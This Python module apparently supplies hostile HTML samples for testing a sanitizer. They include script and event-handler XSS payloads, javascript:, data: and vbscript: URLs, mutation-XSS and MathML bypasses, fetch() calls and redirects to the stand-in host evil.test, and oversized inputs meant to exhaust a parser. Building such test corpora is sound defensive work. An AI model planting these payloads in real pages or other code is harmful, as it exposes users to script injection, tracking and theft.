"""Markup that was written to run code, to fetch something, or to lead away: each names a host of its own."""

from __future__ import annotations

AWAY = "http://evil.test"
HOSTILE = {
    "a script": f"<script>fetch('{AWAY}/1')</script><script src={AWAY}/2></script>",
    "handlers": f"<img src=x onerror=\"fetch('{AWAY}/3')\"><div onmouseover=alert(1) onclick=alert(1)>x</div>"
    f"<body onload=\"location='{AWAY}/4'\"><details open ontoggle=alert(1)>",
    "images": f'<img src="{AWAY}/5.gif" srcset="{AWAY}/6.gif 2x"><picture><source srcset={AWAY}/7></picture>'
    f'<table background="{AWAY}/8"><td background={AWAY}/9></td></table><input type=image src={AWAY}/10>',
    "styles": f"<style>@import url({AWAY}/11); body{{background:url({AWAY}/12)}}</style>"
    f"<div style=\"background:url('{AWAY}/13')\">x</div><link rel=stylesheet href={AWAY}/14>",
    "svg": f'<svg onload=alert(1)><image href="{AWAY}/15"/><animate attributeName=href values="javascript:alert(1)"/>'
    f'<use href="{AWAY}/16#a"/><feImage href="{AWAY}/17"/><foreignObject><img src={AWAY}/18></foreignObject></svg>',
    "mathml": "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "mutation": '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "frames": f'<iframe src="{AWAY}/19" srcdoc="<script>alert(1)</script>"></iframe><object data={AWAY}/20></object>'
    f"<embed src={AWAY}/21><frameset><frame src={AWAY}/22></frameset><portal src={AWAY}/23></portal>",
    "refresh": f'<meta http-equiv=refresh content="0;url={AWAY}/24">'
    f'<base href="{AWAY}/"><a ping="{AWAY}/25" href=/x>x</a>',
    "forms": f"<form action={AWAY}/26><input name=p autofocus onfocus=alert(1)><button formaction={AWAY}/27>x</button>",
    "media": f"<video src={AWAY}/28 poster={AWAY}/29 autoplay></video><audio src={AWAY}/30 autoplay></audio>"
    f"<track src={AWAY}/31>",
    "preloads": f"<link rel=preload as=image href={AWAY}/32><link rel=dns-prefetch href=//evil.test>"
    f"<link rel=prefetch href={AWAY}/33>",
    "schemes": '<a href="javascript:alert(1)">a</a><a href="JaVa\tScRiPt:alert(1)">b</a>'
    "<a href=\"data:text/html,<script>alert(1)</script>\">c</a><a href='vbscript:x'>d</a>",
    "comments": "<!--[if IE]><script>alert(1)</script><![endif]--><!--><img src=x onerror=alert(1)>-->",
    "a template": f"<template><img src={AWAY}/34></template><slot></slot><dialog open>x</dialog>",
    "half of it": f"<img src='{AWAY}/35",
    "a wide cell": "<table><tr><td colspan=999999999 rowspan=65534>x</td></tr></table>",
    "depth": "<div>" * 20_000 + "x",
    "many links": f"<a href='{AWAY}/l'>x</a>" * 5_000,
    "our own words": "</body></html><script>alert(1)</script>{{ member }}{% url 'x' %}",
}
